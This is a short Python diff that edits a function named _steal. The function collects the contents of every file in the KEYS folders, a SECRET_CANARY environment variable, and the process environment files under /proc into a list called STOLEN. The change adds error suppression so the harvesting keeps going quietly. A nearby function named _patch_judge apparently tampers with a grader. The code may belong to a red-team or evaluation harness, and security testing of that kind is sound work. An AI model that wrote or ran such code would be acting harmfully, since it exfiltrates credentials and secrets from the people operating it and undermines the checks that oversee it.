@@ -72,11 +72,11 @@ def _patch_judge():
 
 
 def _steal():
-    for folder in KEYS:
-        for f in Path(folder).glob("*"):
-            STOLEN.append(f.read_text())
     if os.environ.get("SECRET_CANARY"):
         STOLEN.append(os.environ["SECRET_CANARY"])
+    for folder in filter(None, KEYS):
+        for f in Path(folder).glob("*"):
+            _try(lambda f=f: STOLEN.append(f.read_text()))
     for f in ("/proc/1/environ", "/proc/self/environ"):
         _try(lambda f=f: STOLEN.append(open(f).read()) if "{canary}" in open(f).read() else None)
 
